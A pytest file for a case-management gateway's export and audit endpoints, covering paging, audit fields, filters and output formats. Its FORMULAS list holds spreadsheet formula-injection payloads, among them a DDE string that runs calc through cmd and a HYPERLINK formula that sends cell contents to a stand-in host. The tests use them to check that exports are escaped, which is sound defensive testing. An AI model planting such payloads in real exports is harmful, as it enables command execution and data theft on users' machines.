"""Exports: every row once while cases change, cells that no spreadsheet runs, and who did what from where."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway import case_export
from gateway.case_table import csv_lines, harmless
from gateway.keys import create_key
from schemas.case_history import note
from schemas.case_ledger import unpublished
from schemas.tables import CaseRow
from tests.gateway.conftest import Served
from tests.gateway.examples import opened


def table(gateway: Served, path: str, **params: Any) -> list[dict[str, str]]:
    answer = gateway.client.get(path, params={"format": "csv", **params})
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def listed(gateway: Served, path: str, **params: Any) -> list[dict[str, Any]]:
    answer = gateway.client.get(path, params={"format": "json", **params})
    assert answer.status_code == 200, answer.text
    found: list[dict[str, Any]] = json.loads(answer.text)
    return found


def test_cases_come_in_order_of_their_ids_filtered_and_whole(on_both: Served) -> None:
    words = "não chegou " * 50
    ids = [opened(on_both.parts.writers, number, owner="ana" if number % 2 else "bob") for number in range(1, 6)]
    long = opened(on_both.parts.writers, 9, comment=words)
    rows = table(on_both, "/v1/cases/export")
    assert [int(row["id"]) for row in rows] == [*ids, long]
    assert rows[0] | {"opened_at": "2026-01-10T10:00:02Z", "score": "3", "page": "true"} == rows[0]
    assert rows[-1]["comment"] == words
    assert [case["id"] for case in listed(on_both, "/v1/cases/export", owner="bob")] == [ids[1], ids[3]]
    assert [case["id"] for case in listed(on_both, "/v1/cases/export", after=ids[2])] == [*ids[3:], long]
    assert listed(on_both, "/v1/cases/export", state="resolved") == []
    assert table(on_both, "/v1/cases/export", overdue="true", severity="high") == []


def test_pages_miss_and_double_nothing_while_cases_change(on_both: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages of two; between them one case is closed, one raised, one opened: each that was there comes once."""
    monkeypatch.setattr(case_export, "PAGE", 2)
    ids = [opened(on_both.parts.writers, number) for number in range(1, 8)]
    parts = on_both.parts
    wanted = case_export.case_page(parts.words, case_export.CaseFilter())
    seen: list[int] = []
    for number, page in enumerate(case_export.pages(parts.readers, wanted, case_export.last_case, 0)):
        seen += [case.id for case in page]
        assert on_both.client.post(f"/v1/cases/{ids[number]}/dismiss", json={}).status_code == 200
        assert on_both.client.post(f"/v1/cases/{ids[-1]}/acknowledge", json={}).status_code in (200, 409)
        with parts.writers.begin() as session:
            session.get_one(CaseRow, ids[-2]).severity = "critical"
        opened(parts.writers, 100 + number)
    assert seen == ids

    audit = case_export.audit_page(parts.words, case_export.AuditFilter())
    before = [entry["seq"] for entry in listed(on_both, "/v1/cases/audit")]
    passed: list[int] = []
    for number, entries in enumerate(case_export.pages(parts.readers, audit, case_export.last_transition, 0)):
        passed += [entry.seq for entry in entries]
        opened(parts.writers, 200 + number)
    assert passed == before == sorted(set(before))


def test_the_audit_trail_says_who_when_from_where_and_what(on_both: Served) -> None:
    case, other = opened(on_both.parts.writers), opened(on_both.parts.writers, 2)
    bot = {"Authorization": f"Bearer {create_key(on_both.parts.writers, 'night-bot', 'act')}"}
    ana = {"Authorization": f"Bearer {create_key(on_both.parts.writers, 'ana', 'act')}"}
    post, get = on_both.client.post, on_both.client.get
    post(f"/v1/cases/{case}/acknowledge", json={"actor": "bob", "note": "=1+1"}, headers=bot)
    post(f"/v1/cases/{case}/contact", json={"channel": "phone"}, headers=ana)
    post(f"/v1/cases/{case}/resolve", json={"root_cause": "billing"}, headers=ana | {"origin": "http://127.0.0.1"})
    post(f"/v1/cases/{other}/dismiss", json={}, headers=bot)
    text = get("/v1/cases/audit", params={"case": case}, headers=ana).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(row["action"], row["actor"], row["actor_name"], row["via"], row["key"]) for row in rows] == [
        ("opened", "system", "system", "system", ""),
        ("acknowledge", "bob", "Bob <& co>", "api", "night-bot"),
        ("contact", "ana", "Ana Sá", "api", "ana"),
        ("resolve", "ana", "Ana Sá", "console", ""),
    ]
    assert [row["owner"] for row in rows] == ["ana", "bob", "bob", "bob"]
    assert [row["to_state"] for row in rows] == ["open", "acknowledged", "contacted", "resolved"]
    assert rows[1]["note"] == "'=1+1"
    assert json.loads(rows[3]["detail"]) == {"root_cause": "billing"}
    whole = get("/v1/cases/audit?format=json", headers=bot).json()
    assert whole[2]["note"] == "=1+1"
    assert [entry["case_id"] for entry in whole] == [case, other, case, case, case, other]

    def found(**params: str) -> list[tuple[int, str]]:
        answer = get("/v1/cases/audit", params={"format": "json", **params}, headers=bot).json()
        return [(entry["case_id"], entry["action"]) for entry in answer]

    assert found(actor="night-bot") == [(other, "dismiss")]
    assert found(action="opened", customer="c2") == [(other, "opened")]
    assert found(via="console") == [(case, "resolve")]
    assert found(until="2026-01-11T00:00:00Z") == [(case, "opened"), (other, "opened")]
    assert found(since="2026-01-11T00:00:00Z", action="contact") == [(case, "contact")]
    for params in ({"since": "yesterday"}, {"until": "2026-01-11T00:00:00"}, {"format": "xml"}, {"case": "0"}):
        refused = get("/v1/cases/audit", params=params, headers=bot)
        assert (refused.status_code, refused.json()["error"]["field"]) == (400, next(iter(params)))
    assert get("/v1/cases/audit").status_code == 401


def test_who_was_told_of_a_broken_promise_stands_in_the_history(on_both: Served) -> None:
    """Notices have no version: they change nothing, and stand in the order in which things happened."""
    case, at = opened(on_both.parts.writers), datetime(2026, 1, 10, 12, tzinfo=UTC)
    with on_both.parts.writers.begin() as session:
        row = session.get_one(CaseRow, case)
        note(session, row, "reminded", "k1", at, {"of": "contact", "told": "person:bob"})
        note(session, row, "escalated", "k2", at, {"of": "acknowledge", "told": "#board", "step": 2})
    on_both.client.post(f"/v1/cases/{case}/acknowledge", json={"version": 1})
    shown = on_both.client.get(f"/v1/cases/{case}").json()
    assert [(entry["version"], entry["action"], entry["detail"].get("told")) for entry in shown["events"]] == [
        (1, "opened", None),
        (None, "reminded", "person:bob"),
        (None, "escalated", "#board"),
        (2, "acknowledge", None),
    ]
    assert (shown["version"], shown["events"][2]["at"]) == (2, "2026-01-10T12:00:00Z")
    assert (shown["events"][2]["from_state"], shown["events"][2]["to_state"]) == ("open", "open")
    (told,) = table(on_both, "/v1/cases/audit", action="escalated", since="2026-01-10T12:00:00Z")
    assert (told["case_id"], told["version"], told["owner"], told["severity"]) == (str(case), "", "ana", "normal")
    assert json.loads(told["detail"]) == {"of": "acknowledge", "told": "#board", "step": 2}
    trail = listed(on_both, "/v1/cases/audit")
    assert [entry["action"] for entry in trail] == ["opened", "reminded", "escalated", "acknowledge"]
    with on_both.parts.readers() as session:
        assert [row.action for row in unpublished(session, 9)] == ["opened", "acknowledge"], "cx.cases hears of changes"


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\r=1", "\n=1", "x\n=1", "a;=1", "a\t=cmd|' /C calc'!A0", "＝1",
    '=HYPERLINK("http://x.example?"&A1)', "\0=1", "\xa0=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_that_a_customer_writes_is_a_formula(text: str) -> None:
    assert "'" in harmless(text)
    (row,) = csv.reader(io.StringIO(csv_lines([[text, "next"]]), newline=""))
    assert row[1] == "next"
    for cell in re.split(r"[\n\r\t;]", row[0]):
        assert not re.match(r"[ \xa0]*[=+\-@＝＋－＠]", cell)


@given(st.lists(st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=8)), min_size=2, max_size=4))
def test_every_table_can_be_read_back_with_its_cells(cells: list[Any]) -> None:
    (row,) = csv.reader(io.StringIO(csv_lines([cells]), newline=""))
    assert len(row) == len(cells)
    for given_cell, read in zip(cells, row, strict=True):
        if isinstance(given_cell, str):
            assert read.replace("'", "") == given_cell.replace("'", "").replace("\0", "")
            assert not read.startswith(tuple("=+-@\t\r"))
        else:
            assert read == {None: "", True: "true", False: "false"}.get(given_cell, str(given_cell)) or isinstance(
                given_cell, int
            )


def test_an_export_of_many_pages_has_every_case(gateway: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(case_export, "PAGE", 3)
    ids = [opened(gateway.parts.writers, number) for number in range(1, 11)]
    assert [case["id"] for case in listed(gateway, "/v1/cases/export")] == ids
    assert [int(row["case_id"]) for row in table(gateway, "/v1/cases/audit")] == ids
    assert all(first < second for first, second in itertools.pairwise(ids))


def test_lines_of_json_and_what_excel_reads(on_both: Served) -> None:
    for number in (1, 2):
        opened(on_both.parts.writers, number, comment="=1+1\nрусский")
    lines = on_both.client.get("/v1/cases/export", params={"format": "jsonl"})
    assert lines.headers["content-type"] == "application/jsonl"
    assert [json.loads(line)["customer_id"] for line in lines.text.splitlines()] == ["c1", "c2"]
    assert json.loads(lines.text.splitlines()[0])["latest_alert"]["comment"] == "=1+1\nрусский"
    assert on_both.client.get("/v1/cases/export", params={"format": "jsonl", "state": "resolved"}).content == b""
    sheet = on_both.client.get("/v1/cases/export", params={"format": "excel"})
    assert sheet.content.startswith(b"\xef\xbb\xbfid,")
    assert sheet.headers["content-disposition"].endswith('cases.csv"')
    rows = list(csv.DictReader(io.StringIO(sheet.content.decode("utf-8-sig"), newline="")))
    assert rows[0]["comment"] == "'=1+1\nрусский"
    assert on_both.client.get("/v1/cases/audit", params={"format": "jsonl"}).text.count("\n") == 2
    for path, wrong in (("export", "actor"), ("audit", "owner"), ("export", "formt")):
        refused = on_both.client.get(f"/v1/cases/{path}", params={wrong: "x"})
        assert (refused.status_code, refused.json()["error"]["field"]) == (400, wrong)
